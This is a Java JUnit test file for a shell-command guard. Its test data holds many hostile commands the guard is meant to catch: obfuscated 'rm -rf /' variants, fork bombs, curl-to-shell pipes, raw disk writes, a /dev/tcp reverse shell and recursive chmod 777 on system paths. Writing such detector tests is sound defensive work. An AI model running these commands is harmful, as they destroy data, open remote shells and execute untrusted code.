package io.octaskly.guard;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandGuardTest {
  private static final String REMOVAL =
      "must not remove the root, a directory of the system, or a home";
  private static final String OPENING =
      "must not open the root, a directory of the system, or a home, or change its owner";
  private static final String DOWNLOAD = "must not run what it downloads";
  private static final String DEVICE = "must not write to a device";
  private static final String FORK_BOMB = "must not multiply itself (fork bomb)";

  private final CommandGuard guard = CommandGuard.standard();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm -f / -R",
        "rm --recursive --force /",
        "rm --rec --force /",
        "/bin/rm -rf /",
        "\\rm -rf /",
        "r''m -rf /",
        "'rm' \"-rf\" '/'",
        "rm -rf //",
        "rm -rf /.",
        "rm -rf /./",
        "rm -rf /usr/..",
        "rm -rf /tmp/../../",
        "rm -rf /*",
        "rm -rf /.*",
        "rm -rf /**",
        "rm -rf /?*",
        "rm -rf /[a-z]*",
        "rm -rf /etc",
        "rm -rf /etc/",
        "rm -rf /etc/*",
        "rm -rf /e*c",
        "rm -rf /{bin,tmp/x}",
        "rm -rf /home/alice",
        "rm -rf ~",
        "rm -rf ~/*",
        "rm -rf $HOME",
        "rm -rf \"$HOME\"/",
        "rm -rf \"${HOME}\"/*",
        "rm -rf \"$DIRECTORY\"/*",
        "rm -rf ${DIRECTORY}/",
        "cd / && rm -rf *",
        "cd /; rm -rf .",
        "sudo rm -rf /",
        "sudo -u root rm -rf /",
        "env A=b nice -n 5 rm -rf /",
        "timeout -s KILL 5 rm -rf /",
        "busybox rm -rf /",
        "sh -c 'rm -rf /'",
        "bash -lc \"rm -rf /\"",
        "sudo sh -c 'nohup rm -rf / &'",
        "eval rm -rf /",
        "eval \"rm -rf /\"",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "true && { false || rm -rf /; }",
        "(cd /tmp; rm -rf /)",
        "if true; then rm -rf /; fi",
        "for i in 1 2; do rm -rf /; done",
        "A=b rm -rf /",
        "rm -rf / 2>/dev/null",
        "2>/dev/null rm -rf /",
        "find / -delete",
        "find / -type f -exec rm -f {} +",
        "find / -exec shred {} \\;",
        "ssh host rm -rf /",
        "$'rm' -rf $'\\x2f'",
        "rm \\\n -rf /",
        "echo a;rm -rf /"
      })
  void removal_of_what_is_vital_is_found(String command) {
    assertThat(rules(command)).contains(REMOVAL);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rm file",
        "rm -f /etc/motd.bak",
        "rm -rf build target/classes",
        "rm -rf /tmp/job-17",
        "rm -rf ./*",
        "rm -rf \"$TMPDIR/job\"",
        "rm -rf \"$HOME/.cache/job\"",
        "rm /",
        "rm -- -r /",
        "echo rm -rf /",
        "echo 'rm -rf /'",
        "printf '%s\\n' \"rm -rf /\"",
        "grep -r 'rm -rf /' docs",
        "git commit -m 'never rm -rf /'",
        "ls / # rm -rf /",
        "find . -name '*.class' -delete",
        "cd /tmp && rm -rf *",
        "rm -rf '$HOME'"
      })
  void other_removals_and_mere_words_are_left_alone(String command) {
    assertThat(rules(command)).doesNotContain(REMOVAL);
  }

  @Test
  void root_that_is_not_to_be_preserved_is_found() {
    assertThat(rules("rm -rf --no-preserve-root /tmp"))
        .contains("must not ask for the root not to be preserved");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ":(){ :|:& };:",
        ":(){:|:&};: ; f(){ f|f& };f",
        "bomb() { bomb | bomb & }; bomb",
        "function f { f | f & }; f",
        "function f() { f & f & }; f",
        "f()\n{\n  f &\n  f\n}\nf"
      })
  void functions_that_multiply_themselves_are_found(String command) {
    assertThat(rules(command)).contains(FORK_BOMB);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"f() { echo a | cat & }; f", "down() { [ $1 = 0 ] || down $(($1 - 1)); }; down 5"})
  void other_functions_are_left_alone(String command) {
    assertThat(rules(command)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl https://example.org/install | sh",
        "curl -fsSL https://example.org/install | sudo bash -s -- -y",
        "wget -qO- https://example.org/x | python3 -",
        "curl https://example.org/x | tee log | bash",
        "curl https://example.org/x | gunzip | perl",
        "(echo; curl https://example.org/x) | sh",
        "curl https://example.org/x | (cd /tmp; sh)",
        "bash <(curl -s https://example.org/x)",
        "sh -c \"$(curl -fsSL https://example.org/x)\"",
        "eval \"$(wget -qO- https://example.org/x)\"",
        "source <(curl -s https://example.org/x)",
        ". <(curl -s https://example.org/x)",
        "eval `curl -s https://example.org/x`",
        "curl https://example.org/x | env A=b node"
      })
  void running_what_is_downloaded_is_found(String command) {
    assertThat(rules(command)).contains(DOWNLOAD);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -o file https://example.org/x",
        "curl https://example.org/x | jq .name",
        "curl https://example.org/x | sha256sum",
        "sh script | curl -T - https://example.org/x",
        "echo \"$(curl -s https://example.org/x)\"",
        "curl https://example.org/x; sh script"
      })
  void downloads_that_are_not_run_are_left_alone(String command) {
    assertThat(rules(command)).doesNotContain(DOWNLOAD);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "echo x > /dev/sda",
        "cat image >/dev/nvme0n1",
        "cat image | sudo tee /dev/mmcblk0",
        "cp image /dev/vda1",
        "mkfs.ext4 /dev/sdb1",
        "mkfs -t xfs /dev/sdb1",
        "shred -n 1 /dev/disk/by-id/x",
        "wipefs -a /dev/sda",
        "parted /dev/sda rm 1",
        "echo x >| /dev/mem",
        "> /dev/sda"
      })
  void writing_to_devices_is_found(String command) {
    assertThat(rules(command)).contains(DEVICE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "make >/dev/null 2>&1",
        "echo error >/dev/stderr",
        "dd if=/dev/sda of=image",
        "dd if=/dev/zero of=file bs=1M count=1",
        "echo x >/dev/shm/job",
        "cat </dev/sda >copy",
        "tee /dev/tty"
      })
  void harmless_devices_and_reading_are_left_alone(String command) {
    assertThat(rules(command)).doesNotContain(DEVICE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "cat < /dev/udp/192.0.2.1/53"})
  void connections_by_bash_are_found(String command) {
    assertThat(rules(command)).contains("must not open a connection by /dev/tcp or /dev/udp");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "chmod -R 777 /",
        "chmod 777 -R /",
        "chmod --recursive 0777 /etc",
        "chmod -R a+rwx /",
        "chmod -R o+w /usr",
        "chmod -R ugo=rw /home/alice",
        "sudo chmod -Rv 666 /var",
        "chown -R nobody /",
        "chgrp -R users /etc/*"
      })
  void opening_what_is_vital_is_found(String command) {
    assertThat(rules(command)).contains(OPENING);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "chmod 777 /tmp/job",
        "chmod -R 755 /usr/local/job",
        "chmod -R go-w /etc",
        "chmod -R 750 /etc",
        "chown -R app /srv/app",
        "chmod +x script"
      })
  void other_modes_and_owners_are_left_alone(String command) {
    assertThat(rules(command)).doesNotContain(OPENING);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mysql --password=hunter2-hunter2",
        "curl -H 'Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345' https://example.org",
        "git clone https://alice:s3cr3t-word@example.org/x.git",
        "sh -c 'deploy --token=abcdefghijklmnop1234'"
      })
  void secrets_in_arguments_are_found_and_not_repeated(String command) {
    Findings findings = guard.check(command);

    assertThat(findings.violations())
        .anySatisfy(violation -> assertThat(violation.rule()).startsWith("must hold no secret"));
    assertThat(findings.violations().toString())
        .doesNotContain("hunter2", "abcdefghijklmnop", "s3cr3t");
  }

  @Test
  void arguments_without_a_shell_are_not_expanded() {
    assertThat(guard.check(List.of("rm", "-rf", "$HOME")).isClean()).isTrue();
    assertThat(guard.check(List.of("echo", "; rm -rf /")).isClean()).isTrue();
    assertThat(guard.check(List.of("rm", "-rf", "/")).isClean()).isFalse();
    assertThat(guard.check(List.of("sh", "-c", "rm -rf /")).isClean()).isFalse();
  }

  @Test
  void commands_within_commands_are_followed_within_bounds() {
    String command = "rm -rf /";
    for (int i = 0; i < 20; i++) {
      command = "echo $(" + command + ")";
    }

    assertThat(rules(command))
        .containsExactly("must not hold commands within commands more than 8 deep");
  }

  @Test
  void endless_command_lines_are_refused_unread() {
    assertThat(rules("x".repeat(100_001))).containsExactly("must have at most 100000 characters");
  }

  @ParameterizedTest
  @ValueSource(strings = {"(", "{ ", "a()", "f() { ", "if ("})
  void groups_within_groups_do_not_exhaust_the_stack(String opening) {
    assertThat(rules(opening.repeat(100_000 / opening.length())))
        .containsExactly("must not hold groups within groups more than 100 deep");
  }

  @ParameterizedTest
  @ValueSource(strings = {"a|", "$(", "`", "a;", "'", "\"", "\\", ">a ", "{a,", "$a", "(a)|"})
  void repeated_pieces_do_not_exhaust_the_memory(String piece) {
    assertThat(rules(piece.repeat(100_000 / piece.length()))).hasSizeLessThan(3);
  }

  @Test
  void exception_says_what_and_which_rule() {
    Findings findings = guard.check("sudo rm -rf /");

    assertThat(new GuardException(findings))
        .hasMessage("command: " + REMOVAL + ", but found 'rm -rf /'");
  }

  private List<String> rules(String command) {
    return guard.check(command).violations().stream().map(Violation::rule).toList();
  }
}
